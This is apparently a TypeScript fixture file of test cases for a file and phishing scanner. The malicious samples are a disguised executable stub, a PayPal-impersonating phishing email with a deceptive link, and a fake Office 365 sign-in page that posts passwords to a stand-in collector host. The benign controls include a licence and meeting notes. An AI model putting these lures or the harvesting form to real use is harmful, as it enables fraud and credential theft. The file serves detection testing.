import { readFileSync } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import type { ScanExample } from './scan-example.ts';

function file(
  name: string,
  filename: string,
  bytes: string | Uint8Array,
  expected: ScanExample['expected'],
): ScanExample {
  return {
    name,
    scan: { type: 'file', filename, content_b64: Buffer.from(bytes as Uint8Array).toString('base64') },
    expected,
  };
}

function ownFile(name: string): Uint8Array {
  return readFileSync(new URL(`../../../../${name}`, import.meta.url));
}

/** The head of a Windows program; nothing in it can run. */
const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x80, 0, 0, 0]),
  Buffer.alloc(64),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
]);

const MAIL = [
  'From: "PayPal Service" <service@paypal-notice.example.net>',
  'To: someone@example.com',
  'Reply-To: collect@mail-drop.example.org',
  'Subject: Your account has been limited',
  'Date: Tue, 05 Mar 2024 10:00:00 +0000',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Dear customer, your PayPal account has been suspended due to unusual activity. Verify your identity within 24 hours or your account will be permanently closed.</p>',
  '<p><a href="http://paypal-limited-verify.weebly.com/login">https://www.paypal.com/signin</a></p>',
  '',
].join('\r\n');

const PAGE = `<!doctype html><title>Sign in to your account</title>
<p>Microsoft Office 365: your password expires today, sign in to keep your account.</p>
<form action="http://collector.example.top/post.php" method="post">
<input name="email"><input type="password" name="p"><button>Sign in</button></form>`;

const HONEST_MAIL = [
  'From: Ana <ana@example.org>',
  'To: ben@example.org',
  'Subject: Minutes of Thursday',
  'Date: Tue, 05 Mar 2024 10:00:00 +0000',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Hi Ben, here are the minutes of our meeting on Thursday. The next one is on the 21st at ten, as usual in the small room.',
  'Best, Ana',
  '',
].join('\r\n');

export const FILES: readonly ScanExample[] = [
  file('a program that calls itself an invoice', 'invoice_2024.pdf.exe', PROGRAM, {
    caught: true,
    categories: ['malicious_app'],
  }),
  file('a program that says it is a picture', 'holiday.jpg', PROGRAM, {
    caught: true,
    types: ['disguised_file'],
  }),
  file(
    'an archive with nothing but a disguised program',
    'documents.zip',
    zipSync({ 'scan.pdf.exe': PROGRAM }),
    {
      caught: true,
      categories: ['malicious_app'],
    },
  ),
  file('a mail that poses as a payment service', 'mail.eml', MAIL, {
    caught: true,
    categories: ['phishing'],
  }),
  file('a saved page that posts a password elsewhere', 'signin.html', PAGE, { caught: true }),
  file('a long document with many links', 'security.txt', ownFile('docs/security-model.md'), {
    caught: false,
  }),
  file('a licence', 'licence.txt', ownFile('LICENSE'), { caught: false }),
  file('a mail with minutes', 'minutes.eml', HONEST_MAIL, { caught: false }),
  file(
    'an archive with notes',
    'notes.zip',
    zipSync({
      'notes.txt': strToU8('Milk, bread, and the blue paint for the fence. Call Anna about Saturday.'),
    }),
    { caught: false },
  ),
  file(
    'bytes of no known format',
    'data.bin',
    Buffer.from(Array.from({ length: 512 }, (_, index) => (index * 73 + 11) % 256)),
    {
      caught: 'unsupported',
    },
  ),
];

/** Smallest JPEG head: no statement of origin in it. */
const PICTURE = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');

export const MEDIA: readonly ScanExample[] = [
  {
    name: 'a picture without any statement of its origin',
    scan: { type: 'media', filename: 'portrait.jpg', content_b64: PICTURE.toString('base64') },
    expected: { caught: 'unsupported' },
  },
  {
    name: 'a sound that cannot be read',
    scan: {
      type: 'media',
      filename: 'voice.mp3',
      content_b64: Buffer.from('ID3 nothing else').toString('base64'),
    },
    expected: { caught: 'unsupported' },
  },
  {
    name: 'a text without a word in it',
    scan: { type: 'text', content: '... 🙂🙂 !!!' },
    expected: { caught: 'unsupported', verdict: 'allow' },
  },
];
